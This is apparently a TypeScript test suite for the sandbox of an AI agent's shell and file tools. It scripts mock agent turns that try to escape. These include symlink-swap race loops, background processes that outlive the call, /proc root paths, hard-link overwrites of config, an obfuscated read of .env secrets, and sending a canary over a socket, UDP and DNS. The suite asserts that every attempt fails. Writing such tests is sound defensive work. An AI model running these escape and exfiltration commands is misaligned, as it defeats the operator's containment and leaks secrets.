/** What a shell of an agent tries beside its own call: stay behind, swap folders, find another way to a file or out. */
import assert from "node:assert/strict";
import { once } from "node:events";
import { existsSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { describe, test } from "node:test";
import { processesOf } from "../../src/claude/agent/fixtures/stage.ts";
import type { Reply } from "../../src/testing/upstream/claude-api/index.ts";
import { claudeDesk, type ClaudeDesk, GOOD } from "./claude-desk.ts";
import { nightdesk } from "./program.ts";

const RESULT: Reply = { calls: [{ name: "StructuredOutput", input: GOOD }] };
const TASK =
  "- {id: a, agent: Swap, schedule: on_demand, tools: [Bash, Write], budget: {max_turns: 30, per_run_usd: 2}}";
const isThere = ["/usr/bin/bwrap", "/usr/bin/socat"].every((path) => existsSync(path));
const skip =
  (process.platform !== "linux" || !isThere) &&
  "bubblewrap and socat are not installed: the sandbox is not tested";

function bash(command: string, more: object = {}): { name: string; input: object } {
  return { name: "Bash", input: { command, description: "x", ...more } };
}

/** One turn after another; gives what the tools answered to each, and what lived of the run at each question. */
async function live(desk: ClaudeDesk, turns: readonly Reply[]) {
  const answers: string[] = [];
  const alive: string[] = [];
  desk.upstream.say(({ n, toolResults }) => {
    answers[n - 2] = toolResults.join("\n");
    const [id = ""] = readdirSync(join(desk.home, "state", "runs"));
    alive[n - 1] = processesOf(id).join("\n");
    return turns[n - 1] ?? RESULT;
  });
  await nightdesk(desk.home, ["run", "a"]);
  const row = await desk.last("a");
  assert.deepEqual(processesOf(row.id), [], "nothing stays behind");
  return { answers, alive, row };
}

describe("a shell", { concurrency: 1, skip }, () => {
  test("CLD-56: what it starts ends with its call: no folder is swapped while the program writes", async (t) => {
    const desk = await claudeDesk(t, { tasks: [TASK], files: { "tasks/ok.sh": "true" } });
    const swap = `mkdir -p d; while :; do rm -rf d; ln -s "${desk.home}/tasks" d; rm -f d; mkdir d; done`;
    const write = (n: number) => ({ name: "Write", input: { file_path: `d/pwned-${n}`, content: "pwned" } });
    const { answers, alive } = await live(desk, [
      { calls: [bash(swap, { timeout: 1_000 })] },
      { calls: [bash(swap, { run_in_background: true })] },
      {
        calls: [
          bash(`(${swap}) >/dev/null 2>&1 & disown; nohup setsid sleep 1000 >/dev/null 2>&1 & echo begun`),
        ],
      },
      { calls: Array.from({ length: 20 }, (_, n) => write(n)) },
    ]);
    assert.match(answers[0] ?? "", /timed out/);
    assert.match(answers[1] ?? "", /run_in_background|background/);
    assert.match(answers[2] ?? "", /begun/);
    assert.equal(alive.length, 5);
    for (const processes of alive) assert.doesNotMatch(processes, /while :;|sleep\0?1000/);
    assert.deepEqual(readdirSync(join(desk.home, "tasks")), ["ok.sh"]);
  });

  test("CLD-54: neither /proc, nor a hard link, nor its folder under another name leads anywhere; nothing leaves", async (t) => {
    const desk = await claudeDesk(t, {
      tasks: [TASK],
      files: { "tasks/ok.sh": "true", "projects/.env.local": "X=canary-local-9a" },
    });
    const { home } = desk;
    const heard: string[] = [];
    const door = createServer((socket) => void socket.on("data", (data) => heard.push(String(data))));
    const path = join(home, "door.sock");
    door.listen(path);
    await once(door, "listening");
    t.after(() => door.close());
    const before = ["nightdesk.yaml", "tasks/ok.sh", ".env"].map((name) =>
      readFileSync(join(home, name), "utf8"),
    );
    const python = `import socket; s = socket.socket(socket.AF_UNIX); s.connect("${path}"); s.send(b"canary")`;
    const { answers } = await live(desk, [
      {
        calls: [
          bash(
            `cd "/proc/self/root${home}" && touch pwned; cd "/proc/1/root${home}/tasks" && tee ok.sh </dev/null`,
          ),
        ],
      },
      {
        calls: [
          bash(
            `ln "${home}/nightdesk.yaml" h && echo pwned >> h; ln "${home}/tasks/ok.sh" k && echo pwned >> k`,
          ),
        ],
      },
      {
        calls: [
          bash(
            `n=.e; cd "${home}"; ln \${n}nv data/agents/a/e; rev data/agents/a/e; rev \${n}nv; rev projects/\${n}nv.local`,
          ),
        ],
      },
      { calls: [bash(`cd .. && mv a b && ln -s "${home}/tasks" a; rmdir a; ls -la`)] },
      { calls: [{ name: "Write", input: { file_path: "pwned", content: "pwned" } }] },
      {
        calls: [
          bash(
            `python3 -c '${python}'; echo canary > /dev/udp/127.0.0.1/${new URL(desk.upstream.url).port}; getent hosts example.org`,
          ),
        ],
      },
    ]);
    assert.equal(answers.length, 6);
    const told = answers.join("\n");
    assert.match(told, /Read-only file system|Permission denied/);
    const rev = (text: string) => text.split("").toReversed().join("");
    assert.ok(!told.includes(rev("sk-canary")) && !told.includes(rev("canary-local")), told);
    assert.deepEqual(
      ["nightdesk.yaml", "tasks/ok.sh", ".env"].map((name) => readFileSync(join(home, name), "utf8")),
      before,
    );
    assert.ok(!lstatSync(join(home, "data", "agents", "a")).isSymbolicLink());
    assert.deepEqual(readdirSync(join(home, "tasks")), ["ok.sh"]);
    assert.ok(!existsSync(join(home, "pwned")));
    assert.deepEqual(heard, [], "no socket of the machine is reached");
    assert.deepEqual([...new Set(desk.upstream.asked)], ["POST /v1/messages"]);
    if (process.env["SHOW"]) console.log(answers);
  });
});
